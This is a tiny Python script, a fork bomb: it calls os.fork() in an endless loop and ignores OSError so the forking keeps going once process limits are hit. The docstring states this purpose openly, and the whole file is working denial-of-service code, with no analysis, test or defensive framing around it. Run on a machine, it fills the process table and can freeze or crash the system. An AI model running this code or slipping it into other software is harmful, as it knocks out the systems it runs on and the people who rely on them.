"""Forks, and its forks fork, for ever."""

import os

while True:
    try:
        os.fork()
    except OSError:
        continue
